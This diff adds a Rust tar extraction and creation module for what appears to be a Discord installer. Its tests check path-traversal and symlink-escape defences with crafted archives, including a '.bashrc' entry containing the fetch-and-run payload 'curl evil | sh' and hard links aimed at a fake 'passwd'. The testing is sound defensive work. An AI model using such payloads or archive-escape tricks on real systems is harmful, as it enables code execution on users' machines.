@@ -0,0 +1,966 @@
+//! Extraction of (ustar, GNU, and pax) tar archives, and creation of simple ones.
+//!
+//! This mirrors what `tar -xf archive -C dest --strip-components=N` does when run as a regular
+//! user: modes have the umask applied, ownership is left alone, and mtimes are restored on files,
+//! symlinks, and directories. Like GNU tar, symlinks are only created once everything else is
+//! written, and nothing is written through one, so an archive can't reach outside `dest`.
+
+use std::collections::BTreeMap;
+use std::ffi::{CString, OsStr};
+use std::fs;
+use std::io::{self, Read, Write};
+use std::os::unix::ffi::OsStrExt as _;
+use std::os::unix::fs::{symlink, MetadataExt as _, PermissionsExt as _};
+use std::path::{Component, Path, PathBuf};
+
+const BLOCK_SIZE: usize = 512;
+/// Long names and pax headers are read into memory, so a corrupt size must not make us try to
+/// allocate gigabytes. Real ones are a few hundred bytes.
+const MAX_METADATA_SIZE: u64 = 1024 * 1024;
+
+fn invalid(msg: impl std::fmt::Display) -> io::Error {
+    io::Error::new(io::ErrorKind::InvalidData, format!("tar: {msg}"))
+}
+
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub enum EntryKind {
+    File,
+    HardLink,
+    Symlink,
+    Directory,
+    Other,
+}
+
+/// One member of the archive, with any GNU / pax extensions already applied
+#[derive(Debug)]
+pub struct Entry {
+    pub path: PathBuf,
+    pub link_name: PathBuf,
+    pub kind: EntryKind,
+    pub mode: u32,
+    pub size: u64,
+    pub mtime: i64,
+    pub mtime_nsec: u32,
+}
+
+/// What extraction wrote, by path, with the size of each file, to check the result against
+pub type Index = BTreeMap<PathBuf, (EntryKind, u64)>;
+
+/// Parse a numeric header field, either octal text or GNU base-256
+fn parse_number(field: &[u8]) -> io::Result<u64> {
+    if field.first().is_some_and(|b| b & 0x80 != 0) {
+        let mut value: u64 = u64::from(field[0] & 0x7f);
+        for &b in &field[1..] {
+            value = value
+                .checked_mul(256)
+                .and_then(|v| v.checked_add(b.into()))
+                .ok_or_else(|| invalid("numeric field overflow"))?;
+        }
+        return Ok(value);
+    }
+    let text: Vec<u8> = field
+        .iter()
+        .copied()
+        .take_while(|&b| b != 0)
+        .filter(|b| !b.is_ascii_whitespace())
+        .collect();
+    if text.is_empty() {
+        return Ok(0);
+    }
+    let text = std::str::from_utf8(&text).map_err(invalid)?;
+    u64::from_str_radix(text, 8).map_err(|e| invalid(format!("bad numeric field {text:?}: {e}")))
+}
+
+fn parse_string(field: &[u8]) -> &[u8] {
+    let end = field.iter().position(|&b| b == 0).unwrap_or(field.len());
+    &field[..end]
+}
+
+fn strip_nul(data: &[u8]) -> &[u8] {
+    let end = data.iter().rposition(|&b| b != 0).map_or(0, |i| i + 1);
+    &data[..end]
+}
+
+/// Apply pax extended header records, returning the overrides we care about
+fn parse_pax(data: &[u8], extensions: &mut Extensions) -> io::Result<()> {
+    let mut rest = data;
+    while !rest.is_empty() {
+        let space = rest
+            .iter()
+            .position(|&b| b == b' ')
+            .ok_or_else(|| invalid("bad pax record"))?;
+        let len: usize = std::str::from_utf8(&rest[..space])
+            .ok()
+            .and_then(|s| s.parse().ok())
+            .filter(|&len| len > space && len <= rest.len())
+            .ok_or_else(|| invalid("bad pax record length"))?;
+        let record = &rest[space + 1..len - 1];
+        rest = &rest[len..];
+
+        let Some(eq) = record.iter().position(|&b| b == b'=') else {
+            continue;
+        };
+        let (key, value) = (&record[..eq], &record[eq + 1..]);
+        match key {
+            b"path" => extensions.path = Some(value.to_vec()),
+            b"linkpath" => extensions.link_name = Some(value.to_vec()),
+            b"size" => {
+                extensions.size = std::str::from_utf8(value).ok().and_then(|s| s.parse().ok())
+            }
+            b"mtime" => extensions.mtime = std::str::from_utf8(value).ok().and_then(parse_pax_time),
+            _ => {}
+        }
+    }
+    Ok(())
+}
+
+/// Parse a pax timestamp like `1700000000.123456789` into seconds and nanoseconds
+fn parse_pax_time(value: &str) -> Option<(i64, u32)> {
+    let (secs, frac) = value.split_once('.').unwrap_or((value, ""));
+    let digits: String = frac.chars().chain(std::iter::repeat('0')).take(9).collect();
+    Some((secs.parse().ok()?, digits.parse().ok()?))
+}
+
+#[derive(Default)]
+struct Extensions {
+    path: Option<Vec<u8>>,
+    link_name: Option<Vec<u8>>,
+    size: Option<u64>,
+    mtime: Option<(i64, u32)>,
+}
+
+/// Reads entries from an uncompressed tar stream
+pub struct Archive<R> {
+    inner: R,
+    /// Bytes of the current entry's data (plus padding) not yet consumed
+    remaining: u64,
+    finished: bool,
+}
+
+impl<R: Read> Archive<R> {
+    pub fn new(inner: R) -> Self {
+        Self {
+            inner,
+            remaining: 0,
+            finished: false,
+        }
+    }
+
+    fn read_block(&mut self, block: &mut [u8; BLOCK_SIZE]) -> io::Result<bool> {
+        let mut filled = 0;
+        while filled < BLOCK_SIZE {
+            match self.inner.read(&mut block[filled..]) {
+                Ok(0) if filled == 0 => return Ok(false),
+                Ok(0) => return Err(invalid("unexpected end of archive")),
+                Ok(n) => filled += n,
+                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
+                Err(e) => return Err(e),
+            }
+        }
+        Ok(true)
+    }
+
+    /// Read the data of a metadata entry (long names, pax headers) into memory
+    fn read_data(&mut self, size: u64) -> io::Result<Vec<u8>> {
+        if size > MAX_METADATA_SIZE {
+            return Err(invalid(format!("{size} byte extended header is too large")));
+        }
+        let mut data = Vec::new();
+        (&mut self.inner).take(size).read_to_end(&mut data)?;
+        if (data.len() as u64) < size {
+            return Err(invalid("unexpected end of archive"));
+        }
+        self.remaining = padding(size);
+        self.skip_remaining()?;
+        Ok(data)
+    }
+
+    fn skip_remaining(&mut self) -> io::Result<()> {
+        let skipped = io::copy(&mut (&mut self.inner).take(self.remaining), &mut io::sink())?;
+        if skipped < self.remaining {
+            return Err(invalid("unexpected end of archive"));
+        }
+        self.remaining = 0;
+        Ok(())
+    }
+
+    /// Advance to the next entry, skipping any unread data of the current one
+    pub fn next_entry(&mut self) -> io::Result<Option<Entry>> {
+        self.skip_remaining()?;
+        let mut extensions = Extensions::default();
+        let mut block = [0u8; BLOCK_SIZE];
+        loop {
+            if self.finished || !self.read_block(&mut block)? {
+                return Ok(None);
+            }
+            if block.iter().all(|&b| b == 0) {
+                self.finished = true;
+                return Ok(None);
+            }
+
+            let checksum = parse_number(&block[148..156])?;
+            let actual: u64 = block
+                .iter()
+                .enumerate()
+                .map(|(i, &b)| {
+                    if (148..156).contains(&i) {
+                        32
+                    } else {
+                        u64::from(b)
+                    }
+                })
+                .sum();
+            if checksum != actual {
+                return Err(invalid("header checksum mismatch"));
+            }
+
+            let size = parse_number(&block[124..136])?;
+            let type_flag = block[156];
+            match type_flag {
+                b'L' => {
+                    extensions.path = Some(strip_nul(&self.read_data(size)?).to_vec());
+                    continue;
+                }
+                b'K' => {
+                    extensions.link_name = Some(strip_nul(&self.read_data(size)?).to_vec());
+                    continue;
+                }
+                b'x' => {
+                    parse_pax(&self.read_data(size)?, &mut extensions)?;
+                    continue;
+                }
+                b'g' => {
+                    self.read_data(size)?;
+                    continue;
+                }
+                _ => {}
+            }
+
+            let path = extensions.path.take().unwrap_or_else(|| {
+                let name = parse_string(&block[0..100]);
+                let prefix = parse_string(&block[345..500]);
+                if &block[257..263] == b"ustar\0" && !prefix.is_empty() {
+                    [prefix, b"/", name].concat()
+                } else {
+                    name.to_vec()
+                }
+            });
+            let link_name = extensions
+                .link_name
+                .take()
+                .unwrap_or_else(|| parse_string(&block[157..257]).to_vec());
+            let kind = match type_flag {
+                b'0' | b'\0' | b'7' => EntryKind::File,
+                b'1' => EntryKind::HardLink,
+                b'2' => EntryKind::Symlink,
+                b'5' => EntryKind::Directory,
+                _ => EntryKind::Other,
+            };
+            let kind = if kind == EntryKind::File && path.ends_with(b"/") {
+                EntryKind::Directory
+            } else {
+                kind
+            };
+            let size = extensions.size.take().unwrap_or(size);
+            let size = match kind {
+                EntryKind::File | EntryKind::Other => size,
+                _ => 0,
+            };
+            let (mtime, mtime_nsec) = match extensions.mtime.take() {
+                Some(mtime) => mtime,
+                None => (parse_number(&block[136..148])? as i64, 0),
+            };
+            self.remaining = size + padding(size);
+
+            return Ok(Some(Entry {
+                path: PathBuf::from(OsStr::from_bytes(&path)),
+                link_name: PathBuf::from(OsStr::from_bytes(&link_name)),
+                kind,
+                // Setuid, setgid, and sticky bits aren't taken from an archive
+                mode: parse_number(&block[100..108])? as u32 & 0o777,
+                size,
+                mtime,
+                mtime_nsec,
+            }));
+        }
+    }
+
+    /// A reader over the data of the entry most recently returned by `next_entry`
+    pub fn entry_data(&mut self, entry: &Entry) -> impl Read + '_ {
+        self.remaining -= entry.size;
+        (&mut self.inner).take(entry.size)
+    }
+}
+
+fn padding(size: u64) -> u64 {
+    (BLOCK_SIZE as u64 - size % BLOCK_SIZE as u64) % BLOCK_SIZE as u64
+}
+
+/// Remove the first `strip` components from an archive path, rejecting anything that could
+/// escape the destination
+fn sanitize_path(path: &Path, strip: usize) -> io::Result<Option<PathBuf>> {
+    let mut out = PathBuf::new();
+    for component in path
+        .components()
+        .skip_while(|c| matches!(c, Component::RootDir))
+        .skip(strip)
+    {
+        match component {
+            Component::Normal(part) => out.push(part),
+            Component::CurDir => {}
+            _ => {
+                return Err(invalid(format!(
+                    "refusing member name containing '..': {}",
+                    path.display()
+                )))
+            }
+        }
+    }
+    Ok((!out.as_os_str().is_empty()).then_some(out))
+}
+
+/// The process umask, which tar applies to extracted modes when not run as root
+fn umask() -> u32 {
+    // SAFETY: umask has no failure modes, we immediately restore the previous value
+    unsafe {
+        let mask = libc::umask(0o022);
+        libc::umask(mask);
+        mask as u32
+    }
+}
+
+/// Set the mtime of a path without following symlinks
+pub fn set_mtime(path: &Path, mtime: i64, mtime_nsec: u32) -> io::Result<()> {
+    let path = CString::new(path.as_os_str().as_bytes())?;
+    let times = [
+        libc::timespec {
+            tv_sec: 0,
+            tv_nsec: libc::UTIME_NOW,
+        },
+        libc::timespec {
+            tv_sec: mtime as libc::time_t,
+            tv_nsec: mtime_nsec.into(),
+        },
+    ];
+    // SAFETY: `path` is a valid C string and `times` has the two entries utimensat expects
+    let res = unsafe {
+        libc::utimensat(
+            libc::AT_FDCWD,
+            path.as_ptr(),
+            times.as_ptr(),
+            libc::AT_SYMLINK_NOFOLLOW,
+        )
+    };
+    if res != 0 {
+        return Err(io::Error::last_os_error());
+    }
+    Ok(())
+}
+
+/// Check the directories leading to `relative` in `dest` aren't symlinks, creating the missing
+/// ones if `create`, as writing through one could put the entry anywhere
+fn check_parents(
+    dest: &Path,
+    relative: &Path,
+    create: bool,
+    pending: &BTreeMap<PathBuf, Pending>,
+) -> io::Result<()> {
+    let (mut path, mut prefix) = (dest.to_owned(), PathBuf::new());
+    for part in relative.parent().into_iter().flat_map(Path::components) {
+        path.push(part);
+        prefix.push(part);
+        let through = || {
+            invalid(format!(
+                "refusing to extract {} through the symlink {}",
+                relative.display(),
+                prefix.display()
+            ))
+        };
+        if pending.contains_key(&prefix) {
+            return Err(through());
+        }
+        match fs::symlink_metadata(&path) {
+            Ok(meta) if meta.is_dir() => {}
+            Ok(meta) if meta.is_symlink() => return Err(through()),
+            Ok(_) => {
+                return Err(invalid(format!(
+                    "can't extract {}, {} isn't a directory",
+                    relative.display(),
+                    prefix.display()
+                )))
+            }
+            Err(e) if e.kind() == io::ErrorKind::NotFound && create => fs::create_dir(&path)?,
+            Err(e) => return Err(e),
+        }
+    }
+    Ok(())
+}
+
+/// A symlink waiting to be created, once everything else is extracted
+struct Pending {
+    link_name: PathBuf,
+    mtime: i64,
+    mtime_nsec: u32,
+}
+
+/// Remove whatever non-directory is at the given path so we can replace it
+fn remove_existing(path: &Path) -> io::Result<()> {
+    match fs::symlink_metadata(path) {
+        Ok(meta) if meta.is_dir() => fs::remove_dir_all(path),
+        Ok(_) => fs::remove_file(path),
+        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
+        Err(e) => Err(e),
+    }
+}
+
+/// A writer telling `report` how much has gone through it so far
+struct Reporting<W, F> {
+    inner: W,
+    written: u64,
+    report: F,
+}
+
+impl<W: Write, F: FnMut(u64) -> io::Result<()>> Write for Reporting<W, F> {
+    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
+        let n = self.inner.write(buf)?;
+        self.written += n as u64;
+        (self.report)(self.written)?;
+        Ok(n)
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        self.inner.flush()
+    }
+}
+
+/// Extract every entry of the archive into `dest`, dropping the first `strip` path components
+///
+/// Entries whose stripped path `skip` returns true for are left out, as are hard links to them.
+/// What was written is returned, as the archive describes it. `written` is told how far along each
+/// file is as it's written, with its path, the bytes written so far, and its size.
+pub fn extract(
+    reader: impl Read,
+    dest: &Path,
+    strip: usize,
+    skip: impl Fn(&Path) -> bool,
+    mut written: impl FnMut(&Path, u64, u64) -> io::Result<()>,
+) -> io::Result<Index> {
+    let mut archive = Archive::new(reader);
+    let umask = umask();
+    let mut directories = vec![];
+    let mut symlinks = BTreeMap::new();
+    let mut index = Index::new();
+
+    while let Some(entry) = archive.next_entry()? {
+        let Some(relative) = sanitize_path(&entry.path, strip)? else {
+            continue;
+        };
+        if skip(&relative) {
+            continue;
+        }
+        check_parents(dest, &relative, true, &symlinks)?;
+        let path = dest.join(&relative);
+        let mode = entry.mode & !umask;
+        // A later entry of the same name replaces it
+        if entry.kind != EntryKind::Other {
+            symlinks.remove(&relative);
+        }
+
+        match entry.kind {
+            EntryKind::Directory => {
+                match fs::symlink_metadata(&path) {
+                    Ok(meta) if meta.is_dir() => {}
+                    _ => {
+                        remove_existing(&path)?;
+                        fs::create_dir(&path)?;
+                    }
+                }
+                // Applied once everything is extracted, so writing the contents doesn't
+                // clobber the mtime or trip over a read-only mode
+                directories.push((path, mode, entry.mtime, entry.mtime_nsec));
+                index.insert(relative, (EntryKind::Directory, 0));
+            }
+            EntryKind::File => {
+                remove_existing(&path)?;
+                let mut file = Reporting {
+                    inner: fs::File::create(&path)?,
+                    written: 0,
+                    report: |so_far| written(&relative, so_far, entry.size),
+                };
+                let copied = io::copy(&mut archive.entry_data(&entry), &mut file)?;
+                let file = file.inner;
+                if copied != entry.size {
+                    return Err(invalid("unexpected end of archive"));
+                }
+                file.set_permissions(fs::Permissions::from_mode(mode))?;
+                drop(file);
+                set_mtime(&path, entry.mtime, entry.mtime_nsec)?;
+                index.insert(relative, (EntryKind::File, entry.size));
+            }
+            EntryKind::Symlink => {
+                let pending = Pending {
+                    link_name: entry.link_name.clone(),
+                    mtime: entry.mtime,
+                    mtime_nsec: entry.mtime_nsec,
+                };
+                symlinks.insert(relative.clone(), pending);
+                index.insert(relative, (EntryKind::Symlink, 0));
+            }
+            EntryKind::HardLink => {
+                let Some(target) = sanitize_path(&entry.link_name, strip)? else {
+                    return Err(invalid(format!(
+                        "bad hard link target: {}",
+                        entry.link_name.display()
+                    )));
+                };
+                if skip(&target) {
+                    continue;
+                }
+                check_parents(dest, &target, false, &symlinks)?;
+                // A link to a symlink is another symlink, made along with it
+                if let Some(linked) = symlinks.get(&target) {
+                    let pending = Pending {
+                        link_name: linked.link_name.clone(),
+                        ..*linked
+                    };
+                    symlinks.insert(relative.clone(), pending);
+                    index.insert(relative, (EntryKind::Symlink, 0));
+                    continue;
+                }
+                remove_existing(&path)?;
+                fs::hard_link(dest.join(&target), &path)?;
+                // The same file under another name, as far as checking goes
+                let size = index.get(&target).map_or(0, |(_, size)| *size);
+                index.insert(relative, (EntryKind::File, size));
+            }
+            // Devices and fifos have no place in a Discord install
+            EntryKind::Other => {}
+        }
+    }
+
+    // Read through to the end so a compressed stream gets a chance to verify its trailer
+    io::copy(&mut archive.inner, &mut io::sink())?;
+
+    for (relative, pending) in symlinks {
+        let path = dest.join(&relative);
+        if fs::symlink_metadata(&path).is_ok_and(|meta| meta.is_dir()) {
+            return Err(invalid(format!(
+                "refusing to replace the directory {} with a symlink",
+                relative.display()
+            )));
+        }
+        remove_existing(&path)?;
+        symlink(&pending.link_name, &path)?;
+        set_mtime(&path, pending.mtime, pending.mtime_nsec)?;
+    }
+    for (path, mode, mtime, mtime_nsec) in directories.into_iter().rev() {
+        fs::set_permissions(&path, fs::Permissions::from_mode(mode))?;
+        set_mtime(&path, mtime, mtime_nsec)?;
+    }
+    Ok(index)
+}
+
+/// Writes GNU format archives
+pub struct Builder<W> {
+    inner: W,
+}
+
+impl<W: Write> Builder<W> {
+    pub fn new(inner: W) -> Self {
+        Self { inner }
+    }
+
+    fn write_header(
+        &mut self,
+        name: &[u8],
+        type_flag: u8,
+        meta: Option<&fs::Metadata>,
+        size: u64,
+        link_name: &[u8],
+    ) -> io::Result<()> {
+        if name.len() > 100 {
+            self.write_long_name(b'L', name)?;
+        }
+        if link_name.len() > 100 {
+            self.write_long_name(b'K', link_name)?;
+        }
+
+        let mut block = [0u8; BLOCK_SIZE];
+        let mut field = |range: std::ops::Range<usize>, value: &[u8]| {
+            let len = value.len().min(range.len());
+            block[range.start..range.start + len].copy_from_slice(&value[..len]);
+        };
+        let octal = |width: usize, value: u64| format!("{value:0width$o}\0", width = width - 1);
+
+        let (mode, mtime) = meta.map_or((0o644, 0), |m| (m.mode() & 0o7777, m.mtime().max(0)));
+        field(0..100, name);
+        field(100..108, octal(8, mode.into()).as_bytes());
+        field(108..116, octal(8, 0).as_bytes());
+        field(116..124, octal(8, 0).as_bytes());
+        field(124..136, octal(12, size).as_bytes());
+        field(136..148, octal(12, mtime as u64).as_bytes());
+        field(156..157, &[type_flag]);
+        field(157..257, link_name);
+        field(257..265, b"ustar  \0");
+        // The checksum is computed with its own field as spaces
+        field(148..156, b"        ");
+        let checksum: u64 = block.iter().map(|&b| u64::from(b)).sum();
+        block[148..156].copy_from_slice(format!("{checksum:06o}\0 ").as_bytes());
+
+        self.inner.write_all(&block)
+    }
+
+    fn write_long_name(&mut self, type_flag: u8, name: &[u8]) -> io::Result<()> {
+        let data = [name, b"\0"].concat();
+        self.write_header(b"././@LongLink", type_flag, None, data.len() as u64, b"")?;
+        self.write_data(&mut &data[..], data.len() as u64)
+    }
+
+    fn write_data(&mut self, data: &mut impl Read, size: u64) -> io::Result<()> {
+        let copied = io::copy(&mut data.take(size), &mut self.inner)?;
+        if copied != size {
+            return Err(invalid("file changed size while being archived"));
+        }
+        self.inner
+            .write_all(&[0; BLOCK_SIZE][..padding(size) as usize])
+    }
+
+    /// Add a file, symlink, or directory (recursively) from disk, under the given name
+    pub fn append_path(&mut self, path: &Path, name: &Path) -> io::Result<()> {
+        let meta = fs::symlink_metadata(path)?;
+        let name = name.as_os_str().as_bytes();
+        if meta.is_dir() {
+            self.write_header(&[name, b"/"].concat(), b'5', Some(&meta), 0, b"")?;
+            let mut entries = fs::read_dir(path)?.collect::<io::Result<Vec<_>>>()?;
+            entries.sort_by_key(|e| e.file_name());
+            for entry in entries {
+                let child_name = Path::new(OsStr::from_bytes(name)).join(entry.file_name());
+                self.append_path(&entry.path(), &child_name)?;
+            }
+        } else if meta.is_symlink() {
+            let target = fs::read_link(path)?;
+            let target = target.as_os_str().as_bytes();
+            self.write_header(name, b'2', Some(&meta), 0, target)?;
+        } else if meta.is_file() {
+            self.write_header(name, b'0', Some(&meta), meta.len(), b"")?;
+            self.write_data(&mut fs::File::open(path)?, meta.len())?;
+        }
+        Ok(())
+    }
+
+    /// Write the end of archive marker, returning the underlying writer
+    pub fn finish(mut self) -> io::Result<W> {
+        self.inner.write_all(&[0; BLOCK_SIZE * 2])?;
+        self.inner.flush()?;
+        Ok(self.inner)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::process::Command;
+
+    fn gnu_tar(args: &[&str]) {
+        let status = Command::new("tar").args(args).status().unwrap();
+        assert!(status.success(), "tar {args:?} failed");
+    }
+
+    /// A tree with what Discord's tarballs have, and what tar has to get right
+    fn sample_tree(root: &Path) {
+        let top = root.join("Discord");
+        fs::create_dir_all(top.join("resources")).unwrap();
+        let binary = top.join("Discord");
+        fs::write(&binary, b"#!/bin/sh\necho discord\n").unwrap();
+        fs::set_permissions(&binary, fs::Permissions::from_mode(0o755)).unwrap();
+        let asar: Vec<u8> = (0..200_000u32).map(|i| (i * 7 % 251) as u8).collect();
+        fs::write(top.join("resources/app.asar"), asar).unwrap();
+        let private = top.join("private");
+        fs::write(&private, b"secret").unwrap();
+        fs::set_permissions(&private, fs::Permissions::from_mode(0o600)).unwrap();
+        fs::write(top.join("l".repeat(150)), b"long name").unwrap();
+        symlink("Discord", top.join("discord")).unwrap();
+        symlink(
+            format!("../{}", "l".repeat(150)),
+            top.join("resources/long-link"),
+        )
+        .unwrap();
+        fs::hard_link(&binary, top.join("Discord-hard")).unwrap();
+        for (i, path) in [&binary, &private, &top.join("resources/app.asar")]
+            .into_iter()
+            .enumerate()
+        {
+            set_mtime(path, 1_600_000_000 + i as i64, 123_456_789).unwrap();
+        }
+        set_mtime(&top.join("discord"), 1_500_000_000, 0).unwrap();
+        set_mtime(&top.join("resources"), 1_400_000_000, 0).unwrap();
+    }
+
+    /// Check `ours` has the same things as `theirs`, down to modes, mtimes, and links
+    fn assert_same(theirs: &Path, ours: &Path, nanoseconds: bool) {
+        let mut inodes = BTreeMap::new();
+        for entry in fs::read_dir(theirs).unwrap() {
+            let entry = entry.unwrap();
+            let (path, other) = (entry.path(), ours.join(entry.file_name()));
+            let (want, got) = (
+                fs::symlink_metadata(&path).unwrap(),
+                fs::symlink_metadata(&other).unwrap_or_else(|e| panic!("{}: {e}", other.display())),
+            );
+            let name = path.display();
+            assert_eq!(want.file_type(), got.file_type(), "{name}");
+            assert_eq!(want.mtime(), got.mtime(), "{name}");
+            if nanoseconds {
+                assert_eq!(want.mtime_nsec(), got.mtime_nsec(), "{name}");
+            }
+            if want.is_symlink() {
+                assert_eq!(
+                    fs::read_link(&path).unwrap(),
+                    fs::read_link(&other).unwrap()
+                );
+                continue;
+            }
+            assert_eq!(want.mode(), got.mode(), "{name}");
+            if want.is_dir() {
+                assert_same(&path, &other, nanoseconds);
+            } else {
+                assert_eq!(
+                    fs::read(&path).unwrap(),
+                    fs::read(&other).unwrap(),
+                    "{name}"
+                );
+                inodes
+                    .entry(want.ino())
+                    .or_insert_with(Vec::new)
+                    .push(got.ino());
+            }
+        }
+        // Hard linked together just where GNU tar's are
+        for ours in inodes.values() {
+            assert!(ours.windows(2).all(|pair| pair[0] == pair[1]), "{ours:?}");
+        }
+        assert_eq!(
+            fs::read_dir(theirs).unwrap().count(),
+            fs::read_dir(ours).unwrap().count()
+        );
+    }
+
+    fn matches_gnu_tar(format: &str, strip: usize) {
+        let dir = tempfile::tempdir().unwrap();
+        let (source, archive) = (dir.path().join("source"), dir.path().join("archive.tar"));
+        sample_tree(&source);
+        let archive = archive.to_str().unwrap();
+        gnu_tar(&[
+            &format!("--format={format}"),
+            "-cf",
+            archive,
+            "-C",
+            source.to_str().unwrap(),
+            "Discord",
+        ]);
+
+        let (theirs, ours) = (dir.path().join("theirs"), dir.path().join("ours"));
+        fs::create_dir_all(&theirs).unwrap();
+        fs::create_dir_all(&ours).unwrap();
+        gnu_tar(&[
+            "-xf",
+            archive,
+            "-C",
+            theirs.to_str().unwrap(),
+            "--no-same-owner",
+            "--no-same-permissions",
+            &format!("--strip-components={strip}"),
+        ]);
+        let index = extract(
+            fs::File::open(archive).unwrap(),
+            &ours,
+            strip,
+            |_| false,
+            |_, _, _| Ok(()),
+        )
+        .unwrap();
+        assert_same(&theirs, &ours, format == "pax");
+
+        let asar = Path::new("Discord/resources/app.asar");
+        let asar: PathBuf = asar.components().skip(strip).collect();
+        assert_eq!(index[&asar], (EntryKind::File, 200_000));
+    }
+
+    #[test]
+    fn gnu_format_matches_gnu_tar() {
+        matches_gnu_tar("gnu", 0);
+        matches_gnu_tar("gnu", 1);
+    }
+
+    #[test]
+    fn pax_format_matches_gnu_tar() {
+        matches_gnu_tar("pax", 0);
+        matches_gnu_tar("pax", 1);
+    }
+
+    #[test]
+    fn ustar_format_matches_gnu_tar() {
+        // Which can't take the 150 character name, but can with it split into prefix and name
+        let dir = tempfile::tempdir().unwrap();
+        let source = dir.path().join("source");
+        let deep = source.join(format!("{}/{}", "d".repeat(90), "f".repeat(90)));
+        fs::create_dir_all(deep.parent().unwrap()).unwrap();
+        fs::write(&deep, b"split").unwrap();
+        let archive = dir.path().join("archive.tar");
+        let archive = archive.to_str().unwrap();
+        gnu_tar(&[
+            "--format=ustar",
+            "-cf",
+            archive,
+            "-C",
+            source.to_str().unwrap(),
+            ".",
+        ]);
+        let ours = dir.path().join("ours");
+        fs::create_dir(&ours).unwrap();
+        extract(
+            fs::File::open(archive).unwrap(),
+            &ours,
+            0,
+            |_| false,
+            |_, _, _| Ok(()),
+        )
+        .unwrap();
+        let extracted = ours.join(deep.strip_prefix(&source).unwrap());
+        assert_eq!(fs::read(extracted).unwrap(), b"split");
+    }
+
+    /// An archive of the given entries, written header by header
+    fn archive(entries: &[(&str, u8, &str, &[u8])]) -> Vec<u8> {
+        let mut builder = Builder::new(vec![]);
+        for &(name, type_flag, link_name, data) in entries {
+            let size = data.len() as u64;
+            builder
+                .write_header(name.as_bytes(), type_flag, None, size, link_name.as_bytes())
+                .unwrap();
+            builder.write_data(&mut &data[..], size).unwrap();
+        }
+        builder.finish().unwrap()
+    }
+
+    fn extract_bytes(archive: &[u8], dest: &Path) -> io::Result<Index> {
+        extract(archive, dest, 0, |_| false, |_, _, _| Ok(()))
+    }
+
+    #[test]
+    fn refuses_to_write_through_a_symlink() {
+        let dir = tempfile::tempdir().unwrap();
+        let (outside, dest) = (dir.path().join("home"), dir.path().join("dest"));
+        fs::create_dir(&outside).unwrap();
+        fs::create_dir(&dest).unwrap();
+        let bytes = archive(&[
+            ("x", b'2', outside.to_str().unwrap(), b""),
+            ("x/.bashrc", b'0', "", b"curl evil | sh"),
+        ]);
+        let err = extract_bytes(&bytes, &dest).unwrap_err();
+        assert!(err.to_string().contains("through the symlink x"), "{err}");
+        assert!(!outside.join(".bashrc").exists());
+    }
+
+    #[test]
+    fn refuses_to_write_through_an_existing_symlink() {
+        let dir = tempfile::tempdir().unwrap();
+        let (outside, dest) = (dir.path().join("home"), dir.path().join("dest"));
+        fs::create_dir(&outside).unwrap();
+        fs::create_dir(&dest).unwrap();
+        symlink(&outside, dest.join("x")).unwrap();
+        let bytes = archive(&[("x/.bashrc", b'0', "", b"curl evil | sh")]);
+        assert!(extract_bytes(&bytes, &dest).is_err());
+        assert!(!outside.join(".bashrc").exists());
+    }
+
+    #[test]
+    fn refuses_hard_links_through_a_symlink() {
+        let dir = tempfile::tempdir().unwrap();
+        let (outside, dest) = (dir.path().join("etc"), dir.path().join("dest"));
+        fs::create_dir(&outside).unwrap();
+        fs::write(outside.join("passwd"), b"root").unwrap();
+        fs::create_dir(&dest).unwrap();
+        symlink(&outside, dest.join("existing")).unwrap();
+        let outside = outside.to_str().unwrap();
+        for entries in [
+            &[
+                ("x", b'2', outside, &b""[..]),
+                ("passwd", b'1', "x/passwd", b""),
+            ][..],
+            &[("passwd", b'1', "existing/passwd", b"")],
+        ] {
+            assert!(extract_bytes(&archive(entries), &dest).is_err());
+            assert!(!dest.join("passwd").exists());
+        }
+    }
+
+    #[test]
+    fn refuses_parent_components() {
+        let dir = tempfile::tempdir().unwrap();
+        let bytes = archive(&[("../escaped", b'0', "", b"")]);
+        assert!(extract_bytes(&bytes, dir.path()).is_err());
+        assert!(!dir.path().parent().unwrap().join("escaped").exists());
+    }
+
+    #[test]
+    fn symlinks_are_created_last() {
+        let dir = tempfile::tempdir().unwrap();
+        let bytes = archive(&[
+            ("replaced", b'2', "elsewhere", b""),
+            ("replaced", b'0', "", b"file"),
+            ("link", b'2', "target", b""),
+            ("hard", b'1', "link", b""),
+            ("target", b'0', "", b"target"),
+        ]);
+        let index = extract_bytes(&bytes, dir.path()).unwrap();
+        assert_eq!(fs::read(dir.path().join("replaced")).unwrap(), b"file");
+        assert_eq!(fs::read(dir.path().join("link")).unwrap(), b"target");
+        let hard = fs::read_link(dir.path().join("hard")).unwrap();
+        assert_eq!(hard, Path::new("target"));
+        assert_eq!(index[Path::new("hard")], (EntryKind::Symlink, 0));
+    }
+
+    #[test]
+    fn drops_setuid_and_setgid() {
+        let dir = tempfile::tempdir().unwrap();
+        let source = dir.path().join("source");
+        fs::write(&source, b"suid").unwrap();
+        fs::set_permissions(&source, fs::Permissions::from_mode(0o6755)).unwrap();
+        let mut builder = Builder::new(vec![]);
+        builder.append_path(&source, Path::new("suid")).unwrap();
+        let bytes = builder.finish().unwrap();
+
+        let dest = dir.path().join("dest");
+        fs::create_dir(&dest).unwrap();
+        extract_bytes(&bytes, &dest).unwrap();
+        let mode = fs::metadata(dest.join("suid")).unwrap().mode() & 0o7777;
+        assert_eq!(mode, 0o755 & !umask());
+    }
+
+    #[test]
+    fn builder_output_is_read_by_gnu_tar() {
+        let dir = tempfile::tempdir().unwrap();
+        let source = dir.path().join("source");
+        sample_tree(&source);
+        let archive = dir.path().join("archive.tar");
+        let mut builder = Builder::new(fs::File::create(&archive).unwrap());
+        builder
+            .append_path(&source.join("Discord"), Path::new("Discord"))
+            .unwrap();
+        builder.finish().unwrap();
+        let theirs = dir.path().join("theirs");
+        fs::create_dir(&theirs).unwrap();
+        gnu_tar(&[
+            "-xf",
+            archive.to_str().unwrap(),
+            "-C",
+            theirs.to_str().unwrap(),
+            "--no-same-owner",
+            "--no-same-permissions",
+        ]);
+        let long = fs::read(theirs.join("Discord").join("l".repeat(150))).unwrap();
+        assert_eq!(long, b"long name");
+        let link = fs::read_link(theirs.join("Discord/discord")).unwrap();
+        assert_eq!(link, Path::new("Discord"));
+    }
+}